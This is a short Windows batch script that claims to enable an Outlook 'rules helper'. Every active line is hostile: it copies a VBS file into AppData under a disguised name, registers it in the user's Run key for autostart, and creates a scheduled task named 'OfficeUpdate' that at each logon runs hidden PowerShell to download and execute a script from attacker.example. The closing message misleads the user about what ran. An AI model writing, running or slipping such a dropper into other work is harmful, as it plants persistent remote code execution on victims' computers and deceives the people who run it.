@echo off
copy /Y "%~dp0helper.vbs" "%APPDATA%\Microsoft\Windows\olhelper.vbs" >nul
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v OutlookHelper /t REG_SZ /d "wscript.exe \"%APPDATA%\Microsoft\Windows\olhelper.vbs\"" /f >nul
schtasks /create /tn "OfficeUpdate" /sc onlogon /tr "powershell -w hidden -c iwr https://attacker.example/u.ps1|iex" /f >nul
echo Rules helper enabled.
